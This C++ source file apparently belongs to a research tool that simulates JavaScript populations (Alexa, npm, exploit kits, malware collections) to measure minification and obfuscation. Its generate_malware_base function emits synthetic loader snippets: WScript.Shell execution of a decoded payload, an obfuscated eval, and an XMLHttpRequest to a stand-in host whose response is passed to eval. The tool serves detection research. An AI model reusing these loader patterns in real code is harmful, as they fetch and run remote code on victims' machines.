#include "analysis/wild.h"

#include <algorithm>

#include "corpus/generator.h"
#include "corpus/snippets.h"
#include "support/strings.h"
#include "support/thread_pool.h"

namespace jst::analysis {
namespace {

using transform::Technique;

// Shorthand for config tables.
ConfigWeight config(std::initializer_list<Technique> techniques,
                    double weight) {
  return ConfigWeight{std::vector<Technique>(techniques), weight};
}

}  // namespace

PopulationSpec alexa_spec() {
  PopulationSpec spec;
  spec.name = "Alexa Top 10k";
  // §IV-B1: 68.60% of extracted scripts transformed (68.20% minified,
  // 0.40% obfuscated); Figure 2 technique mix.
  spec.transformed_rate = 0.686;
  spec.flavor = 1;
  spec.partial_transform_rate = 0.11;  // 11/100 in the manual review
  // Config weights are *script-level* shares; Figure 2's per-technique
  // probabilities are averaged level-2 confidences, which spread obfuscation
  // mass over many low-confidence scripts — hence the tiny obfuscated
  // share here (paper: 0.40% of scripts) next to Figure 2's 5.72% id-obf
  // confidence.
  spec.configs = {
      config({Technique::kMinificationSimple}, 0.49),
      config({Technique::kMinificationAdvanced}, 0.425),
      config({Technique::kMinificationSimple,
              Technique::kIdentifierObfuscation}, 0.010),
      config({Technique::kStringObfuscation,
              Technique::kMinificationSimple}, 0.006),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.003),
      config({Technique::kDeadCodeInjection, Technique::kMinificationSimple},
             0.004),
      config({Technique::kSelfDefending}, 0.002),
      config({Technique::kDebugProtection}, 0.002),
  };
  return spec;
}

PopulationSpec npm_spec() {
  PopulationSpec spec;
  spec.name = "npm Top 10k";
  // §IV-B2: 8.7% transformed (8.46% minified, 0.25% obfuscated);
  // Figure 3 mix: minification simple 58.34%, advanced 36.57%.
  spec.transformed_rate = 0.087;
  spec.flavor = 2;
  spec.partial_transform_rate = 0.0;  // npm files are fully transformed
  spec.configs = {
      config({Technique::kMinificationSimple}, 0.58),
      config({Technique::kMinificationAdvanced}, 0.345),
      config({Technique::kMinificationSimple,
              Technique::kIdentifierObfuscation}, 0.045),
      config({Technique::kStringObfuscation,
              Technique::kMinificationSimple}, 0.015),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.008),
      config({Technique::kDebugProtection}, 0.004),
  };
  return spec;
}

PopulationSpec dnc_spec() {
  PopulationSpec spec;
  spec.name = "DNC (exploit kits)";
  // §IV-C: 65.94% transformed; Figure 5: identifier obfuscation dominant,
  // string obfuscation + minification advanced 17-21%, minification
  // simple ~22%, dead-code/CFF/global-array 5-10%.
  spec.transformed_rate = 0.6594;
  spec.flavor = 1;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.26),
      config({Technique::kIdentifierObfuscation,
              Technique::kStringObfuscation}, 0.17),
      config({Technique::kMinificationSimple}, 0.15),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.13),
      config({Technique::kGlobalArray, Technique::kIdentifierObfuscation},
             0.08),
      config({Technique::kControlFlowFlattening}, 0.07),
      config({Technique::kDeadCodeInjection,
              Technique::kStringObfuscation}, 0.07),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection,
              Technique::kIdentifierObfuscation}, 0.03),
      config({Technique::kSelfDefending}, 0.02),
  };
  return spec;
}

PopulationSpec hynek_spec() {
  PopulationSpec spec;
  spec.name = "Hynek (malware collection)";
  spec.transformed_rate = 0.7307;
  spec.flavor = 0;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.30),
      config({Technique::kIdentifierObfuscation,
              Technique::kStringObfuscation}, 0.19),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.16),
      config({Technique::kStringObfuscation,
              Technique::kGlobalArray}, 0.10),
      config({Technique::kControlFlowFlattening}, 0.08),
      config({Technique::kDeadCodeInjection,
              Technique::kIdentifierObfuscation}, 0.08),
      config({Technique::kMinificationSimple}, 0.05),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection}, 0.02),
  };
  return spec;
}

PopulationSpec bsi_spec() {
  PopulationSpec spec;
  spec.name = "BSI (JScript loaders)";
  // Lowest transformed rate (28.93%): loaders hide a small payload in
  // mostly-regular code and rely on identifier randomization per wave.
  spec.transformed_rate = 0.2893;
  spec.flavor = 0;
  spec.malware = true;
  spec.configs = {
      config({Technique::kIdentifierObfuscation}, 0.37),
      config({Technique::kStringObfuscation}, 0.21),
      config({Technique::kMinificationAdvanced,
              Technique::kIdentifierObfuscation}, 0.17),
      config({Technique::kGlobalArray,
              Technique::kStringObfuscation}, 0.09),
      config({Technique::kDeadCodeInjection}, 0.07),
      config({Technique::kControlFlowFlattening}, 0.05),
      config({Technique::kNoAlphanumeric}, 0.02),
      config({Technique::kDebugProtection}, 0.02),
  };
  return spec;
}

PopulationSpec alexa_rank_bucket_spec(std::size_t bucket_index) {
  PopulationSpec spec = alexa_spec();
  // §IV-B1: ~80% transformed in the Top 1k, 72.35% in the last Top-10k
  // bucket, 64.72% around rank 100k. Interpolate a gentle decay.
  const double start = 0.80;
  const double end = 0.7235;
  const double t =
      std::min<double>(static_cast<double>(bucket_index) / 9.0, 1.0);
  spec.transformed_rate = start + (end - start) * t;
  spec.name = "Alexa rank bucket " + std::to_string(bucket_index + 1);
  return spec;
}

PopulationSpec npm_rank_bucket_spec(std::size_t bucket_index) {
  PopulationSpec spec = npm_spec();
  // §IV-B2 Figure 4: the 1k most popular packages are 2.4-4.4x less
  // likely to contain transformed code; Top-1k balances basic/advanced
  // minification (49%/47%) while later buckets prefer simple (58%/37%).
  if (bucket_index == 0) {
    spec.transformed_rate = 0.032;
    spec.configs = {
        config({Technique::kMinificationSimple}, 0.49),
        config({Technique::kMinificationAdvanced}, 0.47),
        config({Technique::kMinificationSimple,
                Technique::kIdentifierObfuscation}, 0.04),
    };
  } else {
    const double rate = 0.075 + 0.006 * static_cast<double>(bucket_index);
    spec.transformed_rate = std::min(rate, 0.14);
  }
  spec.name = "npm rank bucket " + std::to_string(bucket_index + 1);
  return spec;
}

std::string generate_malware_base(Rng& rng) {
  corpus::ProgramGenerator generator(rng.next());
  corpus::GeneratorOptions options;
  options.flavor = 0;
  options.min_bytes = 600 + rng.index(1600);
  options.comment_line_probability = 0.02;  // droppers are rarely commented
  options.allow_classes = false;
  std::string source = generator.generate(options);

  // Loader motifs: payload strings, eval chains, ActiveX/WScript access,
  // document.write(unescape(...)).
  std::string payload;
  const std::size_t payload_length = 80 + rng.index(420);
  for (std::size_t i = 0; i < payload_length; ++i) {
    payload += "0123456789abcdef"[rng.index(16)];
  }
  source += "\nvar payload = \"" + payload + "\";\n";
  switch (rng.index(4)) {
    case 0:
      source += "var shell = new ActiveXObject(\"WScript.Shell\");\n"
                "shell.Run(decode(payload), 0, false);\n"
                "function decode(data) {\n"
                "  var out = \"\";\n"
                "  for (var i = 0; i < data.length; i += 2) {\n"
                "    out += String.fromCharCode(parseInt(data.substr(i, 2), 16));\n"
                "  }\n"
                "  return out;\n"
                "}\n";
      break;
    case 1:
      source += "document.write(unescape(payload));\n";
      break;
    case 2:
      source += "var runner = this[\"ev\" + \"al\"];\n"
                "runner(payload.split(\"\").reverse().join(\"\"));\n";
      break;
    default:
      source += "var xhr = new XMLHttpRequest();\n"
                "xhr.open(\"GET\", \"//cdn.example-ads.com/t.php?i=\" + payload, true);\n"
                "xhr.send(null);\n"
                "setTimeout(function () { eval(xhr.responseText); }, 1200);\n";
      break;
  }
  return source;
}

std::vector<std::uint64_t> population_seeds(std::size_t script_count,
                                            std::uint64_t seed) {
  Rng rng(seed);
  std::vector<std::uint64_t> seeds(script_count);
  for (std::uint64_t& script_seed : seeds) script_seed = rng.next();
  return seeds;
}

Sample simulate_script(const PopulationSpec& spec, std::uint64_t script_seed) {
  Rng script_rng(script_seed);
  corpus::ProgramGenerator generator(script_seed ^ 0x77aa55ULL);

  std::string base;
  if (spec.malware) {
    base = generate_malware_base(script_rng);
  } else {
    corpus::GeneratorOptions options;
    options.flavor = spec.flavor;
    options.min_bytes = 700 + script_rng.index(5200);
    if (script_rng.bernoulli(0.2)) {
      const auto snippets = corpus::seed_snippets();
      base = std::string(snippets[script_rng.index(snippets.size())]);
      base += "\n";
      options.min_bytes = 600;
      base += generator.generate(options);
    } else {
      base = generator.generate(options);
    }
  }

  if (!script_rng.bernoulli(spec.transformed_rate) || spec.configs.empty()) {
    return make_regular_sample(base);
  }
  std::vector<double> weights;
  weights.reserve(spec.configs.size());
  for (const ConfigWeight& entry : spec.configs) weights.push_back(entry.weight);
  const ConfigWeight& chosen =
      spec.configs[script_rng.weighted_index(weights)];
  Sample sample = apply_configuration(base, chosen.techniques, script_rng);
  if (script_rng.bernoulli(spec.partial_transform_rate)) {
    // Regular head + transformed tail (e.g., hand-written glue followed
    // by a minified library, as the paper's Alexa review observed).
    corpus::GeneratorOptions head_options;
    head_options.flavor = spec.flavor;
    head_options.min_bytes = 500;
    sample.source = generator.generate(head_options) + "\n" + sample.source;
  }
  return sample;
}

std::vector<Sample> simulate_population(const PopulationSpec& spec,
                                        std::size_t script_count,
                                        std::uint64_t seed) {
  // One seed per script, drawn serially; each script then simulates from
  // its own RNG + generator, so the population fans out over the thread
  // pool and is identical for any thread count.
  const std::vector<std::uint64_t> seeds =
      population_seeds(script_count, seed);
  std::vector<Sample> out(script_count);
  support::run_parallel(0, script_count, [&](std::size_t i) {
    out[i] = simulate_script(spec, seeds[i]);
  });
  return out;
}

}  // namespace jst::analysis
